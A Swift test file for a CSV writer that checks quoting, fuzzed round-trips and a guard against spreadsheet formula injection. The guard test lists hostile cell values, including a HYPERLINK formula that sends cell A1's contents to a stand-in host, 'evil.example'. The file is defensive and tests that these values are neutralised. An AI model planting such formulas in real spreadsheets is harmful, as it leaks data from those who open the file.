import AuguryFormats
import Foundation
import TestSupport
import Testing

struct CSVWriterTests {
  private func read(_ bytes: [UInt8]) throws -> [[[UInt8]]] {
    var reader = try CSVReader(bytes)
    var row = CSVRow()
    var rows: [[[UInt8]]] = []
    while try reader.nextRow(into: &row) {
      rows.append((0..<row.count).map { Array(row.bytes($0)) })
    }
    return rows
  }

  private func written(_ rows: [[String]], guardFormulas: Bool) -> CSVWriter {
    var writer = CSVWriter(guardFormulas: guardFormulas)
    for row in rows { writer.row(row) }
    return writer
  }

  @Test func `only cells that need quotes get them`() {
    let row = ["a", "", "a,b", "a\"b", "a\nb", "a\rb", " a", "a ", "é", "\u{FEFF}"]
    let text = "a,,\"a,b\",\"a\"\"b\",\"a\nb\",\"a\rb\",\" a\",\"a \",é,\"\u{FEFF}\"\n"
    #expect(written([row, [""], []], guardFormulas: false).text == text + "\"\"\n")
  }

  @Test(arguments: [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u{A0}=1+1", "\n=1", "\t",
    "\rx",
    " \tx", "＝1+1", "＋1", "－1", "＠a", "\u{200B}=1", "\u{FEFF}=1", "\u{202E}=1", "\u{3000}＝1",
    "\u{1B}=1", "\u{AD}-a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "-", "+", " -1",
    "-1e999",
    "\u{2066}+x", "\u{0}=1", "\u{1160}=1",
  ])
  func `a cell that could run is given an apostrophe`(cell: String) {
    var guarded = written([[cell]], guardFormulas: true).text.unicodeScalars[...]
    if guarded.first == "\"" { guarded.removeFirst() }
    #expect(
      guarded.starts(with: "'\(cell.unicodeScalars.first.map(String.init) ?? "")".unicodeScalars))
  }

  @Test(arguments: [
    "-1", "+0.7", "-1.5e-3", "-.5", "0", "a=b", "a\n=1", "'=1", "", "x-y", "\u{2212}1",
  ])
  func `harmless cells stay as they are`(cell: String) throws {
    let bytes = written([[cell, "x"]], guardFormulas: true).bytes
    #expect(try read(bytes) == [[Array(cell.utf8), [0x78]]])
  }

  @Test func `naughty strings come back exactly`() throws {
    guard let file = ReferenceData.url("vectors/integrity/hostile/naughty-strings.json") else {
      return ReferenceData.skip("naughty strings come back exactly")
    }
    let strings = try JSONDecoder().decode([String].self, from: Data(contentsOf: file))
    #expect(strings.count > 300)
    let rows = strings.map { [$0] } + [strings] + strings.map { ["x", $0, ""] }
    let bytes = written(rows, guardFormulas: false).bytes
    #expect(try read(bytes) == rows.map { $0.map { Array($0.utf8) } })
    let guarded = try read(written(rows, guardFormulas: true).bytes)
    #expect(guarded.map(\.count) == rows.map(\.count))
  }

  @Test func `random tables of nasty cells come back exactly`() throws {
    let seed: UInt64 = 0xC57
    var random = SplitMix64(seed: seed)
    let pieces = [
      "\"", "\"\"", ",", "\n", "\r", "\r\n", "'", "=", "\t", " ", "a", "bcdefgh", "é", "e\u{301}",
      "日本",
      "\u{FEFF}", "\u{2028}", "\u{1F600}", "\u{10FFFF}", "\u{1}", "\u{7F}", "-", "0.7", "",
    ]
    for round in 0..<20_000 {
      let width = 1 + Int(random.next() % 4)
      let rows = (0..<1 + Int(random.next() % 4)).map { _ in
        (0..<width).map { _ in
          (0..<Int(random.next() % 7)).map { _ in pieces[Int(random.next() % UInt64(pieces.count))]
          }
          .joined()
        }
      }
      let writer = written(rows, guardFormulas: false)
      if try read(writer.bytes) != rows.map({ $0.map { Array($0.utf8) } }) {
        Issue.record("seed \(seed), round \(round): \(rows)")
      }
    }
  }
}
